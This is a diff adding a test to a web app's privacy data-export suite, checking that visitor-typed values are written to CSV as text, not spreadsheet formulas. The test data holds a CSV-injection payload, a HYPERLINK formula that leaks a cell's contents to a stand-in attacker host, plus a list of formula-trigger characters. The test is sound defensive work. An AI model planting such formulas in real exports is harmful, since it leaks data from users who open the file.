@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -115,3 +116,26 @@ def test_a_visitor_gets_a_copy_then_has_everything_erased(client, db, owner, inb
         not m.recipient or m.recipient.startswith("erased-")
         for m in db.execute(select(EmailMessage)).scalars()
     )
+
+
+def test_it_writes_what_a_visitor_typed_as_text_not_as_a_spreadsheet_formula(client, db, owner, inbox):
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    purpose, text = make_purpose(db, owner)
+    form = consent_form(db, owner, purpose, text)
+    sent = submit(client, form, {"first_name": "+31 6 12345678", "last_name": formula, "email": EMAIL})
+    assert sent.status_code == 201, sent.text
+    wait_for(lambda: contact_by_email(db, EMAIL))
+    assert _ask(client, "acme", "access").status_code == 200
+    _confirm_by_link(client, inbox)
+    ready = inbox.wait(EMAIL, "Your data from Acme Zonwering is ready")
+    archive = zipfile.ZipFile(io.BytesIO(client.get(link_in(ready, "/privacy/acme/download")).content))
+
+    (contact,) = csv.DictReader(io.StringIO(archive.read("contact.csv").decode()))
+    assert contact["last_name"] == "'" + formula
+    assert contact["first_name"] == "'+31 6 12345678"
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            cells = [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
+            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+    # The JSON copy keeps exactly what was typed.
+    assert json.loads(archive.read("data.json"))["contact"][0]["last_name"] == formula
